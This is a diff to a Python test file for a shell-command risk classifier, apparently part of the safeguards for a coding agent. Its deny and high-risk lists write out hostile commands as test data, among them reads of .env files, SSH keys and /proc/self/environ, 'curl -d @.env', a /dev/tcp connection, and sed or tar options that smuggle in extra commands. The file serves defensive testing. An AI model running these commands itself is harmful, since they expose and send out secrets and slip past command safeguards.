@@ -76,7 +76,7 @@ DENIED = [
     "git push origin :main", "git push --force-with-lease", "git push --mirror", "git -c x=y push -uf", "kill -9 -1", "kill -9 1",
     "cat .env", "cat ./.env", "cat a/../.env", "cat .ENV", "cat .env.local", "cat '.env'", "cat < .env", "echo x > .env", "cp .env x",
     "git show HEAD:.env", "curl -d @.env x", "docker --env-file=.env", "cat deploy/id_rsa", "cat x.pem", "cat ~/.ssh/config",
-    "cat .git/config", "grep x .env", "grep -f.env x", "python -c \"open('.env')\"", "< .env", "cat /proc/self/environ",
+    "cat .git/config", "grep x .env", "grep -f.env x", "grep -ex .env", "sed -ne p .env", "rg -ie x .env", "python -c \"open('.env')\"", "< .env", "cat /proc/self/environ",
     "echo > /dev/tcp/1.2.3.4/80", "cat .\u0435nv", "sh <<E\ncat .env\nE", "sed -n p .env", "head -c 10 .netrc",
 ]  # fmt: skip
 
@@ -114,7 +114,7 @@ RISKS = {
     "medium": [
         "pytest -q", "python -m pytest", "python run.py", "node x.js", "npm test", "cargo build", "make", "mkdir x", "rm x", "./run.sh",
         ".venv/bin/pytest", ".venv/bin/python -m pytest", "git add .", "git commit -m x", "git switch -c x", "git stash", "git branch x",
-        "sed -n 1,5p x", "sed -i 's/a/b/g' x", "awk '{print $1}' x", "ls > x", "CI=1 pytest", "uv run pytest", "nice make", "tar xf a",
+        "sed -n 1,5p x", "sed -i 's/a/b/g' x", "awk '{print $1}' x", "ls > x", "CI=1 pytest", "uv run pytest", "nice make",
         "cat <<'E' > a\nx\nE", "git tag v1", "chmod +x x",
     ],
     "high": [
@@ -123,7 +123,7 @@ RISKS = {
         "git -c core.pager=x log", "git --exec-path=x log", "git -C /x log", "git log --output=x", "git diff --ext-diff", "git grep -Ovi x",
         "git checkout .", "git stash drop", "git branch -D x", "git config x y", "git rebase -x ls", "git fetch --upload-pack=x",
         "rg --pre x y", "sort -o x y", "find . -delete", "find . -exec ls ;", "sed 's/a/b/e' x", "sed -f x y", "awk 'BEGIN{system(1)}'",
-        "awk -f x", "tar --to-command=x -xf y", "tar -I x -f y", "chmod u+s x", "LD_PRELOAD=x ls", "PATH=. ls", "X=1", "ssh x",
+        "awk -f x", "tar xf y", "unzip y", "patch -p1", "ln -s a b", "split --filter=x y", "sed 's/a/b/;e ls /g' x", "sed 's/a/b/\ne ls' x", "git init", "chmod u+s x", "LD_PRELOAD=x ls", "PATH=. ls", "X=1", "ssh x",
         "ssh -o ProxyCommand=x y", "docker run x", "/opt/x/ls", "../x", "unknown-program", "cat .e*", "cat *.pem", "cat id_*", "gitx status",
         "git-status", "make SHELL=/x", "xxd -r a", ".venv/bin/pip install x", "date -s x", "git", "git commit --no-verify -m x", "uv pip x",
         "./sh -c ls", "node -e x", "setsid ls", "watch ls", "rm --recursive x", "bin/curl x",
@@ -140,7 +140,7 @@ def test_risk(level: str, line: str) -> None:
     ("argv", "words"),
     [
         ("rm -f a b", "a b"), ("cp a b c", "c"), ("cp -t d a b", "d a b"), ("mv a b", "a b"), ("dd if=a of=b", "b"), ("sed -i s/a/b/ f", "f"),
-        ("sed s/a/b/ f", ""), ("git mv a b", "a b"), ("git log a", ""), ("git", ""), ("chmod 755 f", "f"), ("cat a", ""),
+        ("sed s/a/b/ f", ""), ("git mv a b", "a b"), ("uniq a b", "b"), ("git log a", ""), ("git", ""), ("chmod 755 f", "f"), ("cat a", ""),
         ("install --target-directory=d a", "d"), ("touch -- -x", "-x"),
     ],
 )  # fmt: skip
